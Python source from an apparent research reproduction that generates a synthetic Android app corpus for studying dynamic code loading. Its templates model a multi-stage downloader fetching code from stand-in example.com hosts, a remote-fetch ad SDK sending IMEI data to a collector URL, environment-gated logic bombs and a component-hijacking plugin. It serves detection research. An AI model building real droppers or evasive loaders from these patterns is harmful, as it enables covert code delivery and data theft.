        config_dest = "{}/config.xhdpi.apk".format(splits_dir)
        behaviors.emit_asset_to_file(b, "split_feature.apk", feature_dest)
        behaviors.emit_asset_to_file(b, "config.xhdpi.apk", config_dest)
        behaviors.emit_dex_load(
            b,
            "{}:{}".format(feature_dest, config_dest),  # deliberately unordered
            "/data/data/{}/cache/odex".format(package),
            entry_class=feature_main,
        )
        return build_secondary_dex([secondary_cls])

    def _build_self_debloating_stub(
        self, blueprint: AppBlueprint, ctx: BehaviorContext
    ) -> sdks.SdkStub:
        """Self-debloating ecosystem: shelved features behind guard stubs.

        The inverse of the debloating rewriter: feature bodies live as
        shelved dex assets; the in-app guard re-materializes each one
        under the app's private ``shelf/`` dir and loads it on demand.
        ``shelf_generation`` is baked into the shelved bytes, so every
        re-shelve lineage version churns the payload digests.
        """
        package = ctx.package
        generation = blueprint.shelf_generation
        guard_name = "{}.shelf.ShelfGuards".format(package)
        cls = class_builder(guard_name)
        b = MethodBuilder("start", guard_name, arity=1, is_static=True)
        for feature in (1, 2):
            feature_class = "{}.shelf.Feature{}".format(package, feature)
            payload_cls = class_builder(feature_class)
            init = MethodBuilder("<init>", feature_class, arity=1)
            init.ret_void()
            payload_cls.add_method(init.build())
            run = MethodBuilder("run", feature_class, arity=1)
            run.call_void(
                "android.util.Log", "d", run.new_string("shelf"),
                run.new_string(
                    "feature {} reloaded (generation {})".format(feature, generation)
                ),
            )
            run.ret_void()
            payload_cls.add_method(run.build())
            payload = DexFile(
                classes=[payload_cls], source_name="feature{}.jar".format(feature)
            )
            asset_name = "shelf/feature{}.bin".format(feature)
            ctx.assets["assets/{}".format(asset_name)] = payload.to_bytes()
            dest = "/data/data/{}/shelf/feature{}.dex".format(package, feature)
            behaviors.emit_asset_to_file(b, asset_name, dest)
            behaviors.emit_dex_load(
                b,
                dest,
                "/data/data/{}/shelf/odex".format(package),
                entry_class=feature_class,
            )
        b.ret_void()
        cls.add_method(b.build())
        return sdks.SdkStub(dex_class=cls, entry_class=guard_name)

    def _emit_own_plugin_load(
        self,
        rng: random.Random,
        b: MethodBuilder,
        blueprint: AppBlueprint,
        ctx: BehaviorContext,
    ) -> None:
        """Developer-initiated DCL (entity = own): load a bundled plugin."""
        leak_types = list(blueprint.leak_types) if blueprint.dex_entity == "own" else []
        payload = behaviors.privacy_payload_dex(
            rng, "{}.plugin".format(ctx.package), leak_types
        )
        asset_name = "own_plugin.bin"
        ctx.assets["assets/{}".format(asset_name)] = payload.to_bytes()
        dest = "/data/data/{}/files/own_plugin.jar".format(ctx.package)
        behaviors.emit_asset_to_file(b, asset_name, dest)
        behaviors.emit_dex_load(
            b,
            dest,
            "/data/data/{}/cache/odex".format(ctx.package),
            entry_class=payload.classes[0].name,
        )

    def _emit_external_storage_load(
        self,
        rng: random.Random,
        b: MethodBuilder,
        blueprint: AppBlueprint,
        ctx: BehaviorContext,
    ) -> None:
        """Table IX row 1: cache the loadable bytecode on the sdcard."""
        payload = behaviors.privacy_payload_dex(rng, "{}.voice".format(ctx.package), [])
        asset_name = "voice_sdk.bin"
        ctx.assets["assets/{}".format(asset_name)] = payload.to_bytes()
        dest = "/mnt/sdcard/im_sdk/jar/{}_for_assets.jar".format(
            ctx.package.rsplit(".", 1)[-1]
        )
        behaviors.emit_asset_to_file(b, asset_name, dest)
        behaviors.emit_dex_load(
            b,
            dest,
            "/data/data/{}/cache/odex".format(ctx.package),
            entry_class=payload.classes[0].name,
        )

    def _dead_dex_dcl_method(
        self, rng: random.Random, class_name: str, package: str
    ) -> "DexMethod":
        """Loader-constructing code no callback reaches (prefilter-only)."""
        b = MethodBuilder("legacyPluginPath", class_name, arity=1)
        behaviors.emit_dex_load(
            b,
            "/data/data/{}/files/legacy.jar".format(package),
            "/data/data/{}/cache/odex".format(package),
            loader_kind="dalvik.system.DexClassLoader"
            if rng.random() < 0.7
            else "dalvik.system.PathClassLoader",
        )
        b.ret_void()
        return b.build()

    def _dead_native_dcl_method(self, rng: random.Random, class_name: str) -> "DexMethod":
        b = MethodBuilder("legacyNativeInit", class_name, arity=1)
        behaviors.emit_native_load_library(b, "legacy{}".format(rng.randint(0, 99)))
        b.ret_void()
        return b.build()

    def _filler_class(
        self, rng: random.Random, class_name: str, obfuscated: bool
    ) -> DexClass:
        cls = class_builder(class_name)
        n_methods = rng.randint(2, 4)
        for position in range(n_methods):
            if obfuscated:
                method_name = names.obfuscated_identifier(rng, position)
            else:
                method_name = names.readable_identifier(rng, rng.randint(1, 3))
            b = MethodBuilder(method_name, class_name, arity=1)
            sb = b.new_instance_of("java.lang.StringBuilder")
            b.call_virtual("java.lang.StringBuilder", "append", sb, b.new_string("state"))
            text = b.call_virtual("java.lang.StringBuilder", "toString", sb)
            b.call_void("android.util.Log", "d", b.new_string("app"), text)
            b.ret_void()
            cls.add_method(b.build())
        return cls

    # -- top level ------------------------------------------------------------------------------

    def generate(self, n_apps: int) -> List[AppRecord]:
        blueprints = self.sample_blueprints(n_apps)
        return [self.build_record(blueprint) for blueprint in blueprints]

    def records_at(self, n_apps: int, indices: Sequence[int]) -> List[AppRecord]:
        """Build only the records at ``indices`` of an ``n_apps`` corpus.

        Blueprint sampling is corpus-global (rare roles are planted over
        the whole market), so the full blueprint pass always runs; only the
        expensive APK assembly is restricted to the requested slice.  This
        is how farm workers rematerialize their shard from ``(seed, n_apps,
        index)`` without APK objects ever crossing a process boundary.
        """
        blueprints = self.sample_blueprints(n_apps)
        out_of_range = [i for i in indices if not 0 <= i < n_apps]
        if out_of_range:
            raise IndexError(
                "corpus of {} apps has no indices {}".format(n_apps, out_of_range)
            )
        return [self.build_record(blueprints[index]) for index in indices]

    def split(
        self, n_apps: int, ratio: float = 0.5, split_seed: int = 0
    ) -> Tuple[List[int], List[int]]:
        """Seeded, disjoint (train, test) index partition of an ``n_apps`` corpus.

        The shuffle is keyed by (corpus seed, split seed, size, ratio), so
        the same arguments always produce the same partition -- ``repro
        triage train`` and ``repro triage eval`` can never see each other's
        apps.  Both halves are guaranteed non-empty for ``n_apps >= 2``.
        """
        if n_apps < 2:
            raise ValueError("a train/test split needs at least 2 apps")
        if not 0.0 < ratio < 1.0:
            raise ValueError("split ratio must be in (0, 1), got {}".format(ratio))
        key = "corpus-split-{}-{}-{}-{}".format(self.seed, split_seed, n_apps, ratio)
        order = list(range(n_apps))
        random.Random(key).shuffle(order)
        n_train = min(max(int(n_apps * ratio), 1), n_apps - 1)
        return sorted(order[:n_train]), sorted(order[n_train:])

    def lineage(self, n_apps: int, n_versions: int, spec=None):
        """Plan a deterministic multi-version lineage for every package.

        Returns one :class:`repro.evolution.lineage.AppLineage` per app:
        version 1 is the plain corpus blueprint, each later version
        applies seeded mutations (DCL added/dropped, SDK swapped, payload
        gone remote, turned malicious) with monotone ``version_code`` /
        ``release_time_ms`` stamps.  Build any version with
        :func:`repro.evolution.lineage.build_version_record`.
        """
        # Imported here: repro.evolution imports this module at top level.
        from repro.evolution.lineage import plan_lineages

        return plan_lineages(
            n_apps, n_versions, seed=self.seed, profile=self.profile, spec=spec
        )


def _sample_mix(rng: random.Random, mix: Dict[str, float]) -> str:
    roll = rng.random()
    cumulative = 0.0
    for key in ("own", "both", "third"):
        cumulative += mix.get(key, 0.0)
        if roll < cumulative:
            return key
    return "third"


def generate_corpus(
    n_apps: int, seed: int = 0, profile: Optional[CorpusProfile] = None
) -> List[AppRecord]:
    """The public one-call corpus factory."""
    return CorpusGenerator(profile=profile, seed=seed).generate(n_apps)
