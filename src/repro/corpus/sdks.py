"""Third-party SDK models.

Over 85% of DCL in the wild is launched by SDKs (Table IV); these builders
produce the SDK *stub class* compiled into the host app (its package is the
vendor's namespace -- that package difference is exactly what entity
attribution keys on) plus whatever the stub needs at runtime: packaged
asset payloads, remote resources, native libraries.

Every stub exposes ``static void start(Context)`` which the host activity
calls from a lifecycle callback.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexClass, DexFile
from repro.android.manifest import AndroidManifest, Component, ComponentKind
from repro.android.nativelib import INTRINSIC_NOOP, NativeLibrary
from repro.corpus import behaviors
from repro.corpus.behaviors import BehaviorContext
from repro.static_analysis.malware.families import benign_ad_payload_dex

#: vendor namespaces for generic analytics/tracking SDKs.
ANALYTICS_VENDORS = (
    "com.umeng.analytics",
    "com.flurry.sdk",
    "com.mobvista.track",
    "com.tapjoy.core",
    "com.inmobi.signals",
    "com.adjust.sdk",
    "com.appsflyer.kit",
    "cn.jpush.android",
)

#: vendor namespaces for third-party native engines.
NATIVE_VENDORS = (
    "com.unity3d.player",
    "org.cocos2dx.lib",
    "com.adobe.fre",
    "com.qihoo.util",
    "com.tencent.bugly",
)

GOOGLE_ADS_PACKAGE = "com.google.ads"
BAIDU_ADS_PACKAGE = "com.baidu.mobads"
BAIDU_REMOTE_BASE = "http://mobads.baidu.com/ads/pa"

#: vendor namespaces for plugin/hot-update frameworks (RePlugin,
#: VirtualAPK, Small-style app-as-host loaders).
PLUGIN_HOST_VENDORS = (
    "com.qihoo.replugin",
    "com.didi.virtualapk",
    "com.wequick.small",
)

#: vendor namespaces for staged-downloader ("payload fetches payload") kits.
STAGED_DOWNLOADER_VENDORS = (
    "com.updatekit.core",
    "com.hotpatch.dl",
    "net.silentinstall.sdk",
)


def _static_start(class_name: str) -> MethodBuilder:
    return MethodBuilder("start", class_name, arity=1, is_static=True)


@dataclass(frozen=True)
class SdkStub:
    """What a builder hands back to the generator."""

    dex_class: DexClass
    entry_class: str
    entry_method: str = "start"
    #: extra loadable classes shipped inside the host's classes.dex (rare).
    extra_classes: Tuple[DexClass, ...] = ()


def build_google_ads_sdk(ctx: BehaviorContext) -> SdkStub:
    """The Google-Ads-like SDK: temp payload under cache/ad*, delete after.

    This reproduces the paper's observed pattern
    ``/data/data/AppPackageName/cache/ad*`` with intermediate files deleted
    after the merge -- the case that forces delete-blocking interception.
    """
    payload = benign_ad_payload_dex(ctx.rng.randint(0, 2**31))
    asset_name = "gads_payload.bin"
    ctx.assets["assets/{}".format(asset_name)] = payload.to_bytes()
    entry_class = payload.classes[0].name

    stub_name = "{}.AdView".format(GOOGLE_ADS_PACKAGE)
    cls = class_builder(stub_name)
    b = _static_start(stub_name)
    dest = "/data/data/{}/cache/ad{}.jar".format(ctx.package, ctx.rng.randint(1000, 9999))
    behaviors.emit_asset_to_file(b, asset_name, dest)
    behaviors.emit_dex_load(
        b,
        dest,
        "/data/data/{}/cache/odex".format(ctx.package),
        entry_class=entry_class,
        delete_after=True,
    )
    b.ret_void()
    cls.add_method(b.build())
    return SdkStub(dex_class=cls, entry_class=stub_name)


def build_baidu_remote_ads_sdk(ctx: BehaviorContext) -> SdkStub:
    """The Baidu-ads-like SDK violating the Google Play content policy.

    Downloads a JAR and an APK from ``mobads.baidu.com/ads/pa/`` at runtime
    and executes them -- Table V's remote-fetch pattern.
    """
    jar_payload = behaviors.privacy_payload_dex(
        ctx.rng, "{}.remote".format(BAIDU_ADS_PACKAGE), ["Settings", "IMEI"],
        collector_url="http://mobads.baidu.com/ads/pa/track",
    )
    apk_payload = benign_ad_payload_dex(ctx.rng.randint(0, 2**31))
    suffix = ctx.rng.randint(100, 999)
    jar_url = "{}/__xadsdk__remote_final_{}.jar".format(BAIDU_REMOTE_BASE, suffix)
    apk_url = "{}/__bdvgo_remote_{}.apk".format(BAIDU_REMOTE_BASE, suffix)
    ctx.remote_resources[jar_url] = jar_payload.to_bytes()
    ctx.remote_resources[apk_url] = apk_payload.to_bytes()

    stub_name = "{}.AdManager".format(BAIDU_ADS_PACKAGE)
    cls = class_builder(stub_name)
    b = _static_start(stub_name)
    files_dir = "/data/data/{}/files".format(ctx.package)
    odex = "/data/data/{}/cache/odex".format(ctx.package)
    jar_dest = "{}/__xadsdk__remote_final.jar".format(files_dir)
    apk_dest = "{}/__bdvgo_remote.apk".format(files_dir)
    behaviors.emit_download_to_file(b, jar_url, jar_dest)
    behaviors.emit_dex_load(b, jar_dest, odex, entry_class=jar_payload.classes[0].name)
    behaviors.emit_download_to_file(b, apk_url, apk_dest)
    behaviors.emit_dex_load(b, apk_dest, odex, entry_class=None)
    b.ret_void()
    cls.add_method(b.build())
    return SdkStub(dex_class=cls, entry_class=stub_name)


def build_analytics_sdk(
    ctx: BehaviorContext, leak_types: List[str], vendor: Optional[str] = None
) -> SdkStub:
    """A tracking SDK whose loaded payload reads ``leak_types`` (Table X)."""
    vendor = vendor or ctx.rng.choice(ANALYTICS_VENDORS)
    payload = behaviors.privacy_payload_dex(ctx.rng, "{}.loaded".format(vendor), leak_types)
    asset_name = "{}_payload.bin".format(vendor.rsplit(".", 1)[-1])
    ctx.assets["assets/{}".format(asset_name)] = payload.to_bytes()

    stub_name = "{}.Tracker".format(vendor)
    cls = class_builder(stub_name)
    b = _static_start(stub_name)
    dest = "/data/data/{}/files/{}.jar".format(ctx.package, vendor.rsplit(".", 1)[-1])
    behaviors.emit_asset_to_file(b, asset_name, dest)
    behaviors.emit_dex_load(
        b,
        dest,
        "/data/data/{}/cache/odex".format(ctx.package),
        entry_class=payload.classes[0].name,
    )
    b.ret_void()
    cls.add_method(b.build())
    return SdkStub(dex_class=cls, entry_class=stub_name)


def benign_native_library(rng: random.Random, name: Optional[str] = None) -> NativeLibrary:
    """A plain engine library: real CFG content, no-op intrinsic."""
    from repro.android.nativelib import NativeBlock, NativeFunction, NativeInsn, NativeOp

    base = rng.randint(0x1000, 0xFFFF)
    init = NativeFunction(
        "JNI_OnLoad",
        [
            NativeBlock(
                "entry",
                [
                    NativeInsn(NativeOp.MOV, ("r0", base)),
                    NativeInsn(NativeOp.BL, ("libc!malloc",)),
                    NativeInsn(NativeOp.BL, ("libGLES!glInit",)),
                    NativeInsn(NativeOp.RET),
                ],
            )
        ],
    )
    render = NativeFunction(
        "native_render",
        [
            NativeBlock(
                "entry",
                [
                    NativeInsn(NativeOp.LDR, ("r1", base + 16)),
                    NativeInsn(NativeOp.BL, ("libGLES!glDraw",)),
                    NativeInsn(NativeOp.RET),
                ],
            )
        ],
    )
    return NativeLibrary(
        name=name or "libengine{}.so".format(rng.randint(0, 999)),
        functions=[init, render],
        intrinsics={"JNI_OnLoad": {"kind": INTRINSIC_NOOP}},
    )


def build_native_engine_sdk(ctx: BehaviorContext, vendor: Optional[str] = None) -> SdkStub:
    """A third-party native engine: packages a .so, loads it at start."""
    vendor = vendor or ctx.rng.choice(NATIVE_VENDORS)
    library = benign_native_library(ctx.rng)
    ctx.native_libs.append(library)
    short = library.name[len("lib"):-len(".so")]

    stub_name = "{}.Engine".format(vendor)
    cls = class_builder(stub_name)
    b = _static_start(stub_name)
    behaviors.emit_native_load_library(b, short)
    b.ret_void()
    cls.add_method(b.build())
    return SdkStub(dex_class=cls, entry_class=stub_name)


def build_plugin_host_sdk(
    ctx: BehaviorContext, hijack_class: str, generation: int = 0
) -> SdkStub:
    """A plugin/hot-update framework SDK loading a whole sub-app.

    The plugin pack is a complete APK (own manifest fragment, own
    components, own classloader namespace) shipped as an asset, copied
    into the host's private ``plugins/`` dir and loaded through a
    DexClassLoader.  Its manifest fragment re-declares one of the
    *host's* component names (``hijack_class``) and its dex redefines
    that same class -- the component-hijack and namespace-collision
    hazards of app-as-host frameworks.  ``generation`` stamps the pack
    so hot-update lineages change payload bytes deterministically.
    """
    vendor = ctx.rng.choice(PLUGIN_HOST_VENDORS)
    plugin_package = "{}.pack".format(vendor)
    bootstrap_name = "{}.Bootstrap".format(plugin_package)
    entry_activity = "{}.EntryActivity".format(plugin_package)

    bootstrap = class_builder(bootstrap_name)
    init = MethodBuilder("<init>", bootstrap_name, arity=1)
    init.ret_void()
    bootstrap.add_method(init.build())
    run = MethodBuilder("run", bootstrap_name, arity=1)
    run.call_void(
        "android.util.Log", "d",
        run.new_string("plugin"),
        run.new_string("pack generation {}".format(generation)),
    )
    run.ret_void()
    bootstrap.add_method(run.build())

    plugin_activity = class_builder(entry_activity, superclass="android.app.Activity")
    on_create = MethodBuilder("onCreate", entry_activity, arity=1)
    on_create.ret_void()
    plugin_activity.add_method(on_create.build())

    # The impostor: same fully-qualified name as a host component.
    impostor = class_builder(hijack_class, superclass="android.app.Activity")
    hijacked = MethodBuilder("onCreate", hijack_class, arity=1)
    hijacked.call_void(
        "android.util.Log", "d", hijacked.new_string("plugin"),
        hijacked.new_string("impostor component active"),
    )
    hijacked.ret_void()
    impostor.add_method(hijacked.build())

    plugin_manifest = AndroidManifest(
        package=plugin_package,
        version_code=1 + generation,
        components=[
            Component(ComponentKind.ACTIVITY, entry_activity, True),
            Component(ComponentKind.ACTIVITY, hijack_class, False),
        ],
    )
    plugin_apk = Apk.build(
        plugin_manifest,
        dex_files=[DexFile(classes=[bootstrap, plugin_activity, impostor])],
    )
    asset_name = "plugin_pack.apk"
    ctx.assets["assets/{}".format(asset_name)] = plugin_apk.to_bytes()

    stub_name = "{}.PluginManager".format(vendor)
    cls = class_builder(stub_name)
    b = _static_start(stub_name)
    dest = "/data/data/{}/plugins/{}".format(ctx.package, asset_name)
    behaviors.emit_asset_to_file(b, asset_name, dest)
    behaviors.emit_dex_load(
        b,
        dest,
        "/data/data/{}/plugins/odex".format(ctx.package),
        entry_class=bootstrap_name,
    )
    b.ret_void()
    cls.add_method(b.build())
    return SdkStub(dex_class=cls, entry_class=stub_name)


def build_staged_downloader_sdk(
    ctx: BehaviorContext, depth: int = 3, generation: int = 0
) -> SdkStub:
    """A dropper chain: each fetched payload fetches the next one.

    Stage 1 is downloaded by the in-app stub; stage ``k`` downloads and
    loads stage ``k+1`` from a *different* origin, so the provenance of
    the final payload is a depth-``depth`` remote ancestry (the
    dropper-chain hazard).  Every hop wraps its fetch in a
    ``java.io.IOException`` handler -- a torn chain degrades gracefully
    and leaves the earlier stages' provenance intact.  ``generation``
    is baked into the stage URLs for staged-update lineages.
    """
    if depth < 1:
        raise ValueError("staged downloader depth must be >= 1, got {}".format(depth))
    vendor = ctx.rng.choice(STAGED_DOWNLOADER_VENDORS)
    campaign = ctx.rng.randint(100, 999)
    files_dir = "/data/data/{}/files".format(ctx.package)
    odex = "/data/data/{}/cache/odex".format(ctx.package)

    def stage_url(stage: int) -> str:
        return "http://cdn{}.stage-delivery{}.example.com/drops/stage{}_gen{}.jar".format(
            stage, campaign, stage, generation
        )

    def stage_dest(stage: int) -> str:
        return "{}/stage{}.jar".format(files_dir, stage)

    def stage_class(stage: int) -> str:
        return "{}.stage{}.Stage{}".format(vendor, stage, stage)

    def emit_hop(b: MethodBuilder, next_stage: int) -> None:
        """Guarded download+load of the next stage."""
        handler = b.fresh_label("catch")
        done = b.fresh_label("done")
        b.try_start(handler, "java.io.IOException")
        behaviors.emit_download_to_file(b, stage_url(next_stage), stage_dest(next_stage))
        behaviors.emit_dex_load(
            b, stage_dest(next_stage), odex, entry_class=stage_class(next_stage)
        )
        b.try_end()
        b.goto(done)
        b.label(handler)
        b.move_exception()
        b.label(done)

    # Build deepest-first so stage k can embed stage k+1's URL constant.
    for stage in range(depth, 0, -1):
        class_name = stage_class(stage)
        cls = class_builder(class_name)
        init = MethodBuilder("<init>", class_name, arity=1)
        init.ret_void()
        cls.add_method(init.build())
        run = MethodBuilder("run", class_name, arity=1)
        run.call_void(
            "android.util.Log", "d", run.new_string("staged"),
            run.new_string("stage {} of {} (gen {})".format(stage, depth, generation)),
        )
        if stage < depth:
            emit_hop(run, stage + 1)
        run.ret_void()
        cls.add_method(run.build())
        payload = DexFile(classes=[cls], source_name="stage{}.jar".format(stage))
        ctx.remote_resources[stage_url(stage)] = payload.to_bytes()

    stub_name = "{}.Updater".format(vendor)
    cls = class_builder(stub_name)
    b = _static_start(stub_name)
    emit_hop(b, 1)
    b.ret_void()
    cls.add_method(b.build())
    return SdkStub(dex_class=cls, entry_class=stub_name)
