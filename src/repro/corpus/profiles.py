"""Every generator rate, calibrated against the paper's published numbers.

The paper's corpus: 58,739 apps; 40,849 with DEX-DCL code; 25,287 with
native-DCL code (union 46K); 16,768 / 13,748 apps whose DCL actually fired
and was intercepted.  All rates below derive from the tables; each field
documents its source.  Scaling a profile down keeps the proportions and
*plants* the paper's small absolute counts (27 remote-fetch apps, 87
malware carriers, 14 vulnerable apps, 140 packed apps...) via
``planted_count`` so no table goes empty at bench scale.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict

PAPER_TOTAL_APPS = 58_739

#: Table X per-data-type app counts (over the 16,768 intercepted-DEX apps),
#: excluding Settings which is modeled through the ad SDKs.
TABLE_X_COUNTS: Dict[str, int] = {
    "Location": 254,
    "IMEI": 581,
    "IMSI": 27,
    "ICCID": 8,
    "Phone number": 12,
    "Account": 23,
    "Installed applications": 32,
    "Installed packages": 235,
    "Contact": 1,
    "Calendar": 76,
    "CallLog": 32,
    "Browser": 1,
    "Audio": 5,
    "Image": 74,
    "Video": 31,
    "MMS": 1,
    "SMS": 1,
}

#: Figure 3 category mix for the 140 DEX-encryption apps (Entertainment,
#: Tools and Shopping "play a dominant role"; the exact bars are read off
#: the figure, remainder spread thinly).
FIG3_CATEGORY_WEIGHTS: Dict[str, float] = {
    "Entertainment": 0.26,
    "Tools": 0.21,
    "Shopping": 0.15,
    "Finance": 0.07,
    "Games": 0.07,
    "Communication": 0.05,
    "Productivity": 0.05,
    "Video Players": 0.04,
    "Social": 0.04,
    "Photography": 0.03,
    "Music & Audio": 0.03,
}


@dataclass
class CorpusProfile:
    """All knobs of the synthetic market, defaulting to paper calibration."""

    # -- static DCL code presence (Section V-A) -------------------------------
    #: 40,849 / 58,739 apps initialize class loaders in their code.
    p_dex_dcl_code: float = 40_849 / PAPER_TOTAL_APPS
    #: conditional native-code rates chosen so P(native)=25,287/58,739 and
    #: P(dex or native)=46,000/58,739 (the "46K apps" union).
    p_native_code_given_dex: float = 0.4932
    p_native_code_given_no_dex: float = 0.2874

    # -- Table II dynamic outcomes --------------------------------------------
    #: anti-repackaging (rewriting failure): 454/40,849 on the DEX side.
    p_anti_repackaging: float = 454 / 40_849
    #: apps with no Activity component: 8/40,849.
    p_no_activity: float = 8 / 40_849
    #: developer faults crashing at runtime: 33/40,849 (DEX side; the native
    #: side's higher 0.73% emerges from native-only apps, see generator).
    p_crash: float = 33 / 40_849
    p_crash_native_only: float = 184 / 25_287

    # -- DCL reachability (intercepted / exercised, Table II) ------------------
    #: 16,768 / 40,354 exercised DEX-DCL apps actually load at runtime.
    p_dex_dcl_reachable: float = 16_768 / 40_354
    #: 13,748 / 24,957 for native.
    p_native_dcl_reachable: float = 13_748 / 24_957

    #: most DCL fires at app launch (the paper's MAdScope-matching
    #: observation); a minority only triggers from a UI handler, which is
    #: what the Monkey event budget buys (ablation bench).
    p_dcl_on_ui_event: float = 0.15

    # -- Table IV responsible entity -------------------------------------------
    #: of intercepted DEX apps: third-party-only / own-only / both.
    dex_entity_mix: Dict[str, float] = field(
        default_factory=lambda: {
            "third": (16_755 - 37) / 16_768,
            "own": (50 - 37) / 16_768,
            "both": 37 / 16_768,
        }
    )
    native_entity_mix: Dict[str, float] = field(
        default_factory=lambda: {
            "third": (11_834 - 366) / 13_748,
            "own": (2_280 - 366) / 13_748,
            "both": 366 / 13_748,
        }
    )

    # -- Table V remote fetch -----------------------------------------------------
    #: 27 of the 16,768 intercepted-DEX apps load remotely (Baidu ads).
    n_remote_fetch_apps: int = 27

    # -- Table VI obfuscation -------------------------------------------------------
    p_lexical_obfuscation: float = 52_836 / PAPER_TOTAL_APPS
    p_reflection: float = 30_664 / PAPER_TOTAL_APPS
    n_dex_encryption_apps: int = 140
    n_anti_decompilation_apps: int = 54

    # -- Table VII malware -------------------------------------------------------------
    n_swiss_code_monkeys_apps: int = 1
    n_airpush_apps: int = 2
    n_chathook_apps: int = 84
    #: 91 malicious files across 87 apps: 4 chathook carriers load 2 libs.
    n_chathook_double_loaders: int = 4

    # -- Table VIII environment gates (per malicious file, out of 91) --------------------
    p_gate_system_time: float = (91 - 72) / 91
    p_gate_airplane_flag: float = (91 - 56) / 91
    #: additional files requiring *any* connectivity (56 - 53 = 3 of 91).
    p_gate_connectivity: float = (56 - 53) / 91
    p_gate_location: float = (91 - 70) / 91

    # -- Table IX vulnerabilities ----------------------------------------------------------
    n_vuln_dex_external: int = 7
    n_vuln_native_other_app: int = 7

    # -- modern DCL ecosystems (scenario pack, not in the paper) -----------------------
    #: all four knobs default to zero so paper-calibrated corpora are
    #: byte-identical with or without this section; enable them through
    #: :func:`repro.ecosystems.ecosystems_profile` (``--ecosystems``).
    n_plugin_host_apps: int = 0
    n_split_apk_apps: int = 0
    n_staged_downloader_apps: int = 0
    #: hops in a staged-downloader chain (payload fetches payload).
    staged_downloader_depth: int = 3
    n_self_debloating_apps: int = 0

    # -- Table X privacy ----------------------------------------------------------------------
    #: 15,012 of 16,768 intercepted-DEX apps load the (Google) ad library
    #: that only tracks Settings.
    p_google_ads_sdk: float = 15_012 / 16_768
    #: 16,482 apps track Settings; the surplus over the ad-SDK apps comes
    #: from other SDK payloads: (16,482-15,012)/(16,768-15,012).
    p_other_payload_tracks_settings: float = (16_482 - 15_012) / (16_768 - 15_012)
    #: Table X counts for non-Settings types, over the 16,768.
    table_x_counts: Dict[str, int] = field(default_factory=lambda: dict(TABLE_X_COUNTS))
    #: per-type "exclusively third party" shares (Table X right column) are
    #: emergent: loads by own code vs SDK code carry the attribution.

    # -- Table III popularity (means to hit per group) ----------------------------------------------
    mean_downloads_dex: float = 60_010.0
    mean_downloads_no_dex: float = 52_848.0
    mean_downloads_native: float = 288_995.0
    mean_downloads_no_native: float = 75_127.0
    mean_ratings_dex: float = 2_448.0
    mean_ratings_no_dex: float = 2_318.0
    mean_ratings_native: float = 8_668.0
    mean_ratings_no_native: float = 1_119.0
    avg_rating_dex: float = 3.91
    avg_rating_no_dex: float = 3.77
    avg_rating_native: float = 3.82
    avg_rating_no_native: float = 3.79

    def scale(self, n_apps: int) -> float:
        """The down-scaling factor from the paper's corpus size."""
        return n_apps / PAPER_TOTAL_APPS

    def planted_count(self, paper_count: int, n_apps: int) -> int:
        """Scaled count of a rare planted feature, never dropping to zero."""
        if paper_count <= 0:
            return 0
        return max(1, round(paper_count * self.scale(n_apps)))
