"""The synthetic app market standing in for the paper's Google Play crawl.

The paper measured 58,739 apps crawled in November 2016.  This package
generates a corpus of the same *shape* at any scale:

- :mod:`repro.corpus.profiles` -- every rate in the generator, calibrated
  against the paper's tables (Table II outcome rates, Table IV entity mix,
  Table VI obfuscation adoption, Table VII/VIII/IX/X incident rates...);
- :mod:`repro.corpus.names` -- identifier/package-name synthesis (readable
  vs lexically obfuscated);
- :mod:`repro.corpus.behaviors` -- bytecode templates: download-then-load,
  asset-copy-then-load, environment-gated loading, packer containers,
  privacy-leaking payloads, vulnerable loads;
- :mod:`repro.corpus.sdks` -- third-party SDK models (Google-Ads-like,
  Baidu-ads-like remote fetcher, analytics, packers);
- :mod:`repro.corpus.metadata` -- categories and popularity sampling
  (Table III);
- :mod:`repro.corpus.generator` -- blueprints -> installable APKs plus the
  per-app environment (remote resources, companion apps, ground truth).
"""

from repro.corpus.generator import AppRecord, CorpusGenerator, generate_corpus
from repro.corpus.metadata import AppMetadata, CATEGORIES
from repro.corpus.profiles import CorpusProfile

__all__ = [
    "AppMetadata",
    "AppRecord",
    "CATEGORIES",
    "CorpusGenerator",
    "CorpusProfile",
    "generate_corpus",
]
