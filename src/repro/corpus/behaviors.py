"""Bytecode behavior templates used by the corpus generator.

Each template emits the mini-DEX idiom a real app would compile to:
asset-copy-then-load, download-then-load, environment-gated loading (the
logic bombs of Table VIII), JNI loads, reflection use, privacy-leaking
payload bodies, and the vulnerable load patterns of Table IX.

Templates write into a :class:`MethodBuilder` and record any out-of-band
needs (assets, remote resources, companion apps) on the
:class:`BehaviorContext`.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.android import bytecode as bc
from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.bytecode import Cmp
from repro.android.dex import DexFile
from repro.android.nativelib import NativeLibrary

#: register index of the Context/Activity parameter in our callbacks.
CTX = 0


@dataclass
class EnvGates:
    """Which Table VIII logic-bomb conditions guard a load."""

    system_time: bool = False          # hide before the release date
    airplane_flag: bool = False        # hide whenever airplane mode is set
    connectivity: bool = False         # hide without any connectivity
    location: bool = False             # hide when location is disabled

    @property
    def any(self) -> bool:
        return self.system_time or self.airplane_flag or self.connectivity or self.location


@dataclass
class BehaviorContext:
    """Out-of-band artifacts a template needs shipped with the app."""

    rng: random.Random
    package: str
    release_time_ms: int = 0
    assets: Dict[str, bytes] = field(default_factory=dict)
    remote_resources: Dict[str, bytes] = field(default_factory=dict)
    companions: List[Apk] = field(default_factory=list)
    native_libs: List[NativeLibrary] = field(default_factory=list)


# ---------------------------------------------------------------------------
# environment gating


def emit_env_gates(b: MethodBuilder, gates: EnvGates, release_time_ms: int, skip: str) -> None:
    """Emit guards that jump to ``skip`` when a hide-condition holds."""
    if gates.system_time:
        now = b.call_static("java.lang.System", "currentTimeMillis")
        threshold = b.new_int(release_time_ms)
        b.if_cmp(Cmp.LT, now, threshold, skip)
    if gates.airplane_flag:
        resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(CTX))
        flag = b.call_static(
            "android.provider.Settings$System", "getString", resolver, b.new_string("airplane_mode_on")
        )
        is_on = b.call_static("java.lang.String", "equals", flag, b.new_string("1"))
        b.if_nez(is_on, skip)
    if gates.connectivity:
        cm = b.call_virtual(
            "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("connectivity")
        )
